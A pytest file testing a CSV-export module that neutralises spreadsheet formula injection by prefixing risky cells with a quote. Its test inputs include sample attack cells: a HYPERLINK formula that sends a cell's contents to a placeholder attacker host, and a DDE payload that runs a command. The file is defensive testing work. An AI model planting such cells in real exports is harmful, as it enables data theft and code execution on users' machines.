"""CSV that a spreadsheet will not run: cells that start like a formula are written as text (OWASP)."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from server.services import csv_safe


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
])
def test_a_cell_that_starts_like_a_formula_comes_back_out_as_text(cell):
    out = io.StringIO()
    csv_safe.writer(out).writerow(["AA1-1", cell])

    read = next(csv.reader(io.StringIO(out.getvalue(), newline="")))

    assert read == ["AA1-1", "'" + cell]


def test_ordinary_cells_numbers_and_dates_are_written_unchanged_and_every_cell_is_quoted():
    out = io.StringIO()
    writer = csv_safe.writer(out)
    writer.writerow(["Smith-Jones", "O'Brien", "Flat 2, Victoria Court", -5, 3.5, None, date(2027, 1, 1)])
    writer.writerows([["x=1", "a+b"]])

    assert out.getvalue().splitlines() == [
        '"Smith-Jones","O\'Brien","Flat 2, Victoria Court","-5","3.5","","2027-01-01"',
        '"x=1","a+b"',
    ]


def test_neutralise_leaves_what_is_not_text_alone():
    assert csv_safe.neutralise(-1) == -1
    assert csv_safe.neutralise(None) is None
    assert csv_safe.neutralise("=1") == "'=1"
    assert csv_safe.neutralise("") == ""
    assert csv_safe.safe_row(["@a", "b"]) == ["'@a", "b"]


def test_quoting_can_be_chosen_but_formulas_are_neutralised_whatever_it_is():
    out = io.StringIO()
    csv_safe.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\n").writerow(["=1+1", "plain"])
    assert out.getvalue() == "'=1+1,plain\n"
